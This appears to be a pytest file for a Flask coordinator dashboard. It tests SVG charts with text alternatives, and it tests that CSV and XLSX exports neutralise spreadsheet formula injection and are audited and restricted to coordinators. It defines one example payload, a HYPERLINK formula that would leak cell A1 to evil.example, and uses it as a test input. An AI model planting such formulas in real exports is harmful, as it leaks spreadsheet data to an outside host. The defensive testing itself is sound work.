"""The pictures page (map and charts as SVG with tables) and the CSV/XLSX exports."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import openpyxl
import pytest
import test_matching_pages
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from coordinator import db
from coordinator.dashboard.exports import safe_cell
from coordinator.models import Application, AuditEntry, Host, Invitation, WorkshopSession

# The solved round (a real worker and relay) comes from the matching page tests.
solved_round = test_matching_pages.solved_round
coordinator_client = test_matching_pages.coordinator_client

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


@pytest.mark.parametrize("value, stored", [
    ("=1+1", "'=1+1"), ("+45 1234", "'+45 1234"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Aarhus", "Aarhus"), (None, ""), (-2, -2), (3.5, 3.5),
])
def test_safe_cell_escapes_formula_starts_only_in_text(value: Any, stored: Any) -> None:
    assert safe_cell(value) == stored


def test_pictures_draw_one_path_per_placement_with_text_alternatives(
        app: Flask, coordinator_client: FlaskClient, solved_round: dict[str, Any]) -> None:
    round_id = solved_round["round_id"]
    with app.app_context():
        session = db.session()
        host = session.scalars(select(Host).where(Host.round_id == round_id)).first()
        workshop = WorkshopSession(round_id=round_id, kind="prep", date=dt.date(2027, 8, 26),
                                   venue="Aarhus Rådhus", lat=56.15, lon=10.2, capacity=3)
        session.add(workshop)
        session.flush()
        session.add(Invitation(round_id=round_id, session_id=workshop.id, host_id=host.id,
                               week="2027-W37", people=4))
        session.commit()
    response = coordinator_client.get(f"/coordinator/rounds/{round_id}/pictures")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert html.count('<path class="placement"') == len(solved_round["result"]["assignments"])
    assert html.count('role="img"') == 4
    for chart in ("map", "distances", "ranks", "workshops"):
        assert f'aria-labelledby="{chart}-title {chart}-desc"' in html
    assert "Aarhus Rådhus" in html and "#a00000" in html  # 4 people in 3 seats: over capacity
    assert html.count("<caption>") == 4
    other = coordinator_client.get(
        f"/coordinator/rounds/{round_id}/pictures?run={solved_round['run_id']}")
    assert other.get_data(as_text=True).count('<path class="placement"') == \
        len(solved_round["result"]["assignments"])
    assert coordinator_client.get(
        f"/coordinator/rounds/{round_id}/pictures?run=999999").status_code == 404


def _rename_first_visitor(app: Flask, round_id: int, application_id: int) -> None:
    with app.app_context():
        db.session().get(Application, application_id).name = EVIL
        db.session().commit()


def test_placement_exports_keep_formulas_as_text_in_csv_and_xlsx(
        app: Flask, coordinator_client: FlaskClient, solved_round: dict[str, Any]) -> None:
    round_id = solved_round["round_id"]
    first = solved_round["result"]["assignments"][0]
    _rename_first_visitor(app, round_id, first["application_id"])
    response = coordinator_client.get(f"/coordinator/rounds/{round_id}/exports/placements.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith(
        'attachment; filename="innovationspraktik-2027-demo-placements-')
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][0] == "Visitor"
    assert len(rows) == 1 + len(solved_round["result"]["assignments"])
    assert "'" + EVIL in [row[0] for row in rows]

    xlsx = coordinator_client.get(f"/coordinator/rounds/{round_id}/exports/placements.xlsx")
    assert xlsx.status_code == 200
    assert xlsx.headers["Content-Disposition"].endswith('.xlsx"')
    book = openpyxl.load_workbook(io.BytesIO(xlsx.get_data()))
    sheet = book.active
    names = [cell for cell in sheet["A"][1:]]
    evil = [cell for cell in names if "HYPERLINK" in str(cell.value)]
    assert len(evil) == 1
    assert evil[0].value == "'" + EVIL and evil[0].data_type == "s"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    with app.app_context():
        audits = db.session().scalars(select(AuditEntry).where(
            AuditEntry.action == "export.download").order_by(AuditEntry.id)).all()
        assert [(a.after["kind"], a.after["format"]) for a in audits] == [
            ("placements", "csv"), ("placements", "xlsx")]
        assert audits[0].after["rows"] == len(solved_round["result"]["assignments"])


def test_application_and_workshop_exports(
        app: Flask, coordinator_client: FlaskClient, solved_round: dict[str, Any]) -> None:
    round_id = solved_round["round_id"]
    _rename_first_visitor(app, round_id, solved_round["result"]["assignments"][0][
        "application_id"])
    page = coordinator_client.get(f"/coordinator/rounds/{round_id}/exports")
    assert page.status_code == 200
    for kind in ("placements", "applications", "workshops"):
        for fmt in ("csv", "xlsx"):
            assert f"/exports/{kind}.{fmt}" in page.get_data(as_text=True)
    book = openpyxl.load_workbook(io.BytesIO(coordinator_client.get(
        f"/coordinator/rounds/{round_id}/exports/applications.xlsx").get_data()))
    values = [cell.value for cell in book.active["B"][1:]]
    assert "'" + EVIL in values and len(values) == 30
    workshops = coordinator_client.get(f"/coordinator/rounds/{round_id}/exports/workshops.csv")
    assert workshops.status_code == 200
    assert workshops.get_data().decode("utf-8-sig").startswith("Session,Date,Venue")
    assert coordinator_client.get(
        f"/coordinator/rounds/{round_id}/exports/secrets.csv").status_code == 404
    assert coordinator_client.get(
        f"/coordinator/rounds/{round_id}/exports/placements.exe").status_code == 404


def test_exports_are_for_coordinators_only(client: FlaskClient) -> None:
    response = client.get("/coordinator/rounds/1/exports/placements.csv")
    assert response.status_code in (302, 401)
    assert b"Visitor" not in response.get_data()


def test_round_without_runs_has_an_empty_map_and_header_only_exports(
        app: Flask, coordinator_client: FlaskClient, coordinator_user: dict[str, Any]) -> None:
    round_id = test_matching_pages.closed_round(app, coordinator_user["id"], applications=6,
                                                hosts=3)
    html = coordinator_client.get(f"/coordinator/rounds/{round_id}/pictures").get_data(
        as_text=True)
    assert "No finished solver run yet" in html
    assert '<path class="placement"' not in html and html.count("<circle") == 6 + 1  # + legend
    rows = list(csv.reader(io.StringIO(coordinator_client.get(
        f"/coordinator/rounds/{round_id}/exports/placements.csv").get_data().decode(
        "utf-8-sig"))))
    assert len(rows) == 1
